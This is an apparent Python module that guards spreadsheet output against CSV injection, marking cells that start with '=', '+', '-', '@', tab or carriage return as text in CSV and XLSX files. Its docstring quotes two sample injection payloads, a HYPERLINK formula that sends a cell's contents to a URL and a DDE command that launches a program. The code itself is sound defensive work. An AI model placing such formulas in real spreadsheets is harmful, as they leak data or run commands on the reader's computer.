"""The one rule for a cell the program writes to a spreadsheet (CSV or XLSX).

A recap carries teachers' names, notes and follow-up plans that came from outside. A
name such as ``=HYPERLINK("http://…?d="&B2,"Lihat nilai")`` or ``+1+cmd|' /C calc'!A0``
would become a live formula in the principal's Excel or LibreOffice (CSV injection).
The rule follows OWASP's: a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return is *formula-like* and is written so that the spreadsheet shows it
as text:

- in a CSV file, with a leading apostrophe (``'=1+1``), the only mark every spreadsheet
  program honours when it reads text;
- in an XLSX workbook, as a string cell with Excel's quote prefix: the cell shows the
  text exactly as typed (no apostrophe) and editing it does not turn it into a formula.

Numbers stay numbers: a number value is never touched, and a text that is a plain
number as the program writes numbers (``-1.50``, ``-1,50``, or a lone ``-`` for none) is
no formula either. Characters no XLSX cell may hold (openpyxl's ILLEGAL_CHARACTERS_RE:
C0 controls but tab and line breaks) are removed along with the rest of
:func:`observasi.core.text.displayable`, so writing a workbook never fails on a name.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Any

from observasi.core.text import displayable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# A number as the program writes one in a text cell: a sign, digits, one decimal mark.
_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?|[+-]?\d{1,3}(?:[.,]\d{3})+(?:[.,]\d+)?|-")


@dataclass(frozen=True)
class SheetCell:
    """A cell's value as it may be written, and whether it is text that starts like a
    formula (the writer must keep it text)."""

    value: object
    formula_like: bool = False

    def csv(self) -> object:
        """The value for a CSV file: formula-like text behind an apostrophe."""
        return "'" + str(self.value) if self.formula_like else self.value


def spreadsheet_cell(value: object) -> SheetCell:
    """*value* made safe to open in a spreadsheet (see the module's text)."""
    if not isinstance(value, str):
        return SheetCell(value)  # numbers, dates, booleans, empty cells: as they are
    text = displayable(value)
    formula_like = text.startswith(FORMULA_START) and not _NUMBER.fullmatch(text)
    return SheetCell(text, formula_like)


def put_xlsx_cell(cell: Any, value: object) -> Any:
    """Write *value* into an openpyxl cell through :func:`spreadsheet_cell` (every XLSX
    writer uses this): text stays text -- a string cell, with Excel's quote prefix when it
    starts like a formula -- and holds no character a workbook refuses. Returns the cell.
    (The cell is duck-typed: this module imports no openpyxl.)"""
    safe = spreadsheet_cell(value)
    cell.value = safe.value
    if isinstance(safe.value, str):
        cell.data_type = "s"  # openpyxl takes a text starting with "=" for a formula
        cell.quotePrefix = safe.formula_like
    return cell
